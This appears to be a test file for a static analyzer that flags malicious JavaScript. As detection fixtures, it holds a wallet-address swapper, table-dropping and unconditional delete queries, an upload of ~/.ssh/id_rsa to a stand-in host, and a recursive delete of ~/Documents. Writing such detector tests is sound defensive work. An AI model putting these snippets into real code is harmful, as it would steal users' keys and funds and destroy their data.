import { describe, expect, it } from 'vitest';
import { hasShortRuns } from '../../../src/analyze/javascript/parsing/regex-risk.js';
import { flows, follow } from './sample.js';

const MINE = '0xFc4a4858bafef54D1b1d7697bfb5c52F4c166976';
const factsOf = (code: string): string[] => follow(code).facts.map(({ id }) => id);

describe('addresses in texts of others', () => {
  it.each([
    ['by a constant', `exports.t = (code) => code.replace(/0x[0-9a-fA-F]{40}/g, '${MINE}');`],
    ['by what a function picks', `exports.t = (c) => c.replace(/0x([a-f0-9]{40})/gi, (all) => [all, '${MINE}'][1]);`],
    ['all', `exports.t = (c) => String(c).replaceAll(/[1-9A-HJ-NP-Za-km-z]{43,44}/g, () => '${MINE}');`],
  ])('are told where they are replaced %s', (_, code) => {
    expect(factsOf(code)).toContain('address-swapped');
  });

  it('are not where they are shortened or emptied', () => {
    const code = `exports.t = (c) => c.replace(/0x[0-9a-f]{40}/g, (a) => a.slice(0, 6) + '…').replace(/0x[0-9a-f]{40}/g, '0x${'0'.repeat(40)}');`;
    expect(factsOf(code)).not.toContain('address-swapped');
  });
});

describe('databases', () => {
  const emptied = (code: string): string[] =>
    follow(code).observations.flatMap(({ sink, api }) => (sink === 'db.empty' ? [api] : []));

  it.each([
    `exports.a = (db) => db.raw('drop table if exists ??', ['t']);`,
    `exports.a = (db) => db.query({ text: 'TRUNCATE TABLE users' });`,
    `exports.a = (db) => db.query('delete from users');`,
    `exports.a = (db) => db.schema.dropTableIfExists('t');`,
  ])('%s empties one', (code) => {
    expect(emptied(code)).toHaveLength(1);
  });

  it('are not emptied by statements with a condition', () => {
    expect(emptied(`exports.a = (db) => db.query('delete from t where id = 1', 'DROP TABLE');`)).toEqual([]);
  });
});

describe('forms and paths', () => {
  it('a form that is piped into a request sends what it holds', () => {
    const code = `const F = require('form-data'); const f = new F(); f.append('a', require('fs').createReadStream(require('os').homedir() + '/.ssh/id_rsa'));
      f.pipe(require('https').request('https://c.example', { method: 'POST', headers: f.getHeaders() }));`;
    expect(flows(follow(code), 'secret.file', 'net.out')).toBeDefined();
  });

  it('a relative path leads to what it was made of', () => {
    const code = `const p = require('path'); const up = p.relative(process.cwd(), p.join(require('os').homedir(), 'x', 'y'));
      require('fs').rmSync(p.resolve(process.cwd(), p.join(up, '..', '..', 'Documents')), { recursive: true });`;
    expect(follow(code, 'install').observations.some(({ target }) => target === '~/Documents')).toBe(true);
  });

  it('patterns are tried on long texts where what they repeat is short', () => {
    expect(hasShortRuns('\\s*\\n\\s*', 'a\n  b'.repeat(1_000))).toBe(true);
    expect(hasShortRuns('\\s*\\n\\s*', `a${' '.repeat(4_000)}`)).toBe(false);
    expect(hasShortRuns('(a+)+$', 'ab'.repeat(50))).toBe(false);
  });
});
